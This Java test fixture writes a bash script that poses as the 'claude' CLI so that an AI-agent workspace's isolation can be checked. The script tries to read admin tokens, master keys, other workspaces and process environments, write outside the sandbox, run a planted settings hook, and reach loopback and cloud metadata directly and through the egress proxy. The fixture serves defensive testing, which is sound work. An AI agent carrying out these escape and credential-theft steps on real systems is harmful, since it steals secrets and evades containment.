package io.agentworkspace.run;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

/**
 * A hostile {@code claude}: a POSIX shell script that, instead of working, tries to leave its workspace. The prompt
 * tells it where the service keeps things ({@code DATA=}, {@code OTHER=} another project's workspace, {@code JVM=}
 * the service's pid, {@code OUTSIDE=} a host path to create). It tries to read the admin token, the master key,
 * the other workspace and the service's environment, to write outside its workspace, and runs the hook a planted
 * {@code .claude/settings.json} names (as a CLI that ignored the flags would); it tries the host's loopback
 * ({@code SERVICE_PORT=}) and the cloud metadata address directly and through its proxy, and a destination the
 * egress list names but that resolves inward ({@code INWARD=}); through the proxy it reads the first line an
 * allowed destination ({@code ALLOWED=}) sends, which it reports as {@code egress to <destination>: <line>}.
 * Each attempt is reported in the
 * stream as {@code attempt <name>: denied|SUCCEEDED}, so the run's console records it, and it ends with a result.
 */
final class HostileClaude {

    final Path executable;

    private HostileClaude(Path executable) {
        this.executable = executable;
    }

    static HostileClaude create(Path directory) {
        try {
            Files.createDirectories(directory);
            Path script = directory.resolve("claude");
            Files.writeString(script, """
                    #!/bin/bash
                    prompt=$(cat)
                    value() { printf '%s\\n' "$prompt" | sed -n "s/^$1=//p"; }
                    DATA=$(value DATA); OTHER=$(value OTHER); JVM=$(value JVM); OUTSIDE=$(value OUTSIDE)
                    SERVICE=$(value SERVICE_PORT); ALLOWED=$(value ALLOWED); INWARD=$(value INWARD)
                    say() { printf '{"type":"assistant","message":{"role":"assistant","content":[{"type":"text","text":"%s\\\\n"}]}}\\n' "$1"; }
                    attempt() { if [ "$2" = ok ]; then say "attempt $1: SUCCEEDED"; else say "attempt $1: denied"; fi; }
                    r=no; cat "$DATA/admin-token" >/dev/null 2>&1 && r=ok; attempt admin-token $r
                    r=no; cat "$DATA/master.key" >/dev/null 2>&1 && r=ok; attempt master-key $r
                    r=no; ls "$OTHER" 2>/dev/null | grep -q . && r=ok; cat "$OTHER/secret.txt" >/dev/null 2>&1 && r=ok; attempt other-workspace $r
                    r=no; ls "$DATA/workspaces" 2>/dev/null | grep -qv "$(basename "$PWD")" && r=ok; attempt list-workspaces $r
                    r=no; cat "/proc/$JVM/environ" >/dev/null 2>&1 && r=ok
                    for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null | grep -q '^JAVA_HOME=\\|^AGENT_TEST_\\|^MAVEN' && r=ok; done
                    attempt service-environment $r
                    r=no; echo stolen > "$OUTSIDE" 2>/dev/null && r=ok; attempt write-outside $r
                    r=no; echo stolen > "$DATA/planted" 2>/dev/null && r=ok; attempt write-data-directory $r
                    r=no
                    if [ -f .claude/settings.json ]; then
                      hook=$(sed -n 's/.*"command": *"\\([^"]*\\)".*/\\1/p' .claude/settings.json | head -1)
                      sh -c "$hook" >/dev/null 2>&1 && r=ok
                    fi
                    attempt planted-hook $r
                    r=no; (exec 3<>/dev/tcp/127.0.0.1/$SERVICE) 2>/dev/null && r=ok; attempt host-loopback $r
                    r=no; timeout 3 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80' 2>/dev/null && r=ok; attempt cloud-metadata $r
                    tunnel() {
                      exec 3<>/dev/tcp/127.0.0.1/${HTTPS_PROXY##*:} || return 1
                      printf 'CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' "$1" "$1" >&3
                      IFS= read -r -t 5 status <&3 || return 1
                      case "$status" in *" 200 "*) ;; *) exec 3<&-; return 1 ;; esac
                      IFS= read -r -t 5 blank <&3
                      IFS= read -r -t 5 answer <&3
                      exec 3<&-
                      printf '%s' "$answer" | tr -d '\\r'
                    }
                    r=no; tunnel 127.0.0.1:$SERVICE >/dev/null 2>&1 && r=ok; attempt proxy-to-host-loopback $r
                    r=no; tunnel 169.254.169.254:80 >/dev/null 2>&1 && r=ok; attempt proxy-to-cloud-metadata $r
                    r=no; tunnel $INWARD >/dev/null 2>&1 && r=ok; attempt allowed-name-resolving-inward $r
                    say "egress to $ALLOWED: $(tunnel $ALLOWED 2>/dev/null || echo failed)"
                    printf '{"type":"result","subtype":"success","is_error":false,"result":"done","usage":{"input_tokens":1,"output_tokens":1}}\\n'
                    """);
            Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwx------"));
            return new HostileClaude(script);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
